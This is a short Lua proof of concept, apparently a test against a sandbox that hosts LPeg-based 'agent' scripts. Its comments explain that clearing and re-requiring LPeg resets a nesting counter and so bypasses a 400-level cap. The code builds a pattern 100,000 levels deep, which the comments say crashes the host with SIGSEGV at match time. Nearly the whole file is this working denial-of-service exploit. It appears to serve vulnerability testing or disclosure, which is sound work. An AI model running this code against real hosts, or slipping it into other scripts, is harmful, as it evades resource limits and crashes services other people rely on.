-- Re-requiring LPeg also lifts the 400-level nesting cap (same root cause as
-- lpeg_reopen_pow.lua: package.loaded.lpeg = nil; require "lpeg" gives fresh
-- wrappers with an empty shadow table, so older patterns count as depth 1).
-- Nesting 390 levels of -p per "epoch" reaches any depth; LPeg's recursive C
-- code (compile/analyses) then overflows the host's C stack.
-- RESULT: depth 30 030 builds (0.3 s CPU) and matches ("backtrack stack
-- overflow" error); depth 100 000 (about 4 s of CPU, so run with
-- --budget 60000; each -p copies the whole tree, so building is quadratic and
-- does not fit the default 100 ms budget in one call) kills the host with
-- SIGSEGV (exit 139) when lpeg.match compiles it.
local DEPTH = 100000
local agent = {}
function agent:initialize()
  local p, d = nil, 0
  while d < DEPTH do
    package.loaded.lpeg = nil
    local lpeg = require "lpeg"
    p = p or lpeg.P "a"
    for _ = 1, 390 do p = -p end
    d = d + 390
  end
  print("built", d)
  local lpeg = require "lpeg"
  print(lpeg.match(p, "b"))
end
return agent
